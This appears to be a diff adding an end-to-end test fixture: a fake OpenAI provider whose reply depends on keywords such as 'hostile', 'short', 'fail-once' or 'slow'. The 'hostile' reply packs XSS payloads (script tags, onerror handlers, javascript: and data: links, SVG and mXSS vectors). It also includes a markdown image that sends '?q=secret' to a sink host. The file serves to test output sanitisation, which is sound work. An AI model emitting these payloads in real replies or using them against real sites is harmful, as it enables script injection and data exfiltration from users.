@@ -1,0 +1,44 @@
+// The fake model provider the e2e scenarios talk to (through OPENAI_BASE_URL): the reply
+// depends on a keyword in the visitor's prompt, so each scenario picks its behaviour.
+import { startFakeOpenAI, tokenize, type ChatRequest, type FakeOpenAI, type FakeReply } from "../support/fake-openai.ts";
+import { plainReply } from "./helpers.ts";
+
+export const LONG_REPLY = plainReply(160);
+export const SHORT_REPLY = plainReply(24, 2);
+
+export function hostileReply(sinkOrigin: string): string {
+  return [
+    "# Totally normal answer",
+    "<script>alert('script')</script>",
+    `<img src="${sinkOrigin}/img-tag.png" onerror="alert('onerror')">`,
+    `![exfiltrate](${sinkOrigin}/md-image.png?q=secret)`,
+    "[javascript link](javascript:alert('js'))",
+    "[data link](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "<a href=\"javascript:alert('raw')\">raw anchor</a>",
+    "<svg><script>alert('svg')</script><animate onbegin=\"alert('anim')\"/></svg>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert('mxss')></style></mglyph></table></mtext></math>",
+    `<iframe src="${sinkOrigin}/frame.html"></iframe>`,
+    "<form action=\"javascript:alert('form')\"><button>go</button></form>",
+    "[a safe link](https://example.com/docs) and [mail us](mailto:help@example.com).",
+  ].join("\n\n");
+}
+
+/** Keyword -> behaviour. Default: LONG_REPLY at 15 ms a token. */
+export async function startProvider(sinkOrigin = "http://127.0.0.1:9"): Promise<FakeOpenAI & { failures: Map<string, number> }> {
+  const failures = new Map<string, number>();
+  const script = (request: ChatRequest): FakeReply => {
+    const last = request.messages.filter((m) => m.role === "user").at(-1);
+    const prompt = typeof last?.content === "string" ? last.content : JSON.stringify(last?.content ?? "");
+    if (prompt.includes("hostile")) return { tokens: tokenize(hostileReply(sinkOrigin)), delayMs: 2 };
+    if (prompt.includes("short")) return { tokens: tokenize(SHORT_REPLY), delayMs: 5 };
+    if (prompt.includes("fail-once")) {
+      const seen = failures.get(prompt) ?? 0;
+      failures.set(prompt, seen + 1);
+      if (seen === 0) return { tokens: tokenize(LONG_REPLY), delayMs: 10, failAfter: 30 };
+      return { tokens: tokenize(SHORT_REPLY), delayMs: 5 };
+    }
+    if (prompt.includes("slow")) return { tokens: tokenize(LONG_REPLY), delayMs: 40 };
+    return { tokens: tokenize(LONG_REPLY), delayMs: 15 };
+  };
+  return Object.assign(await startFakeOpenAI(script), { failures });
+}
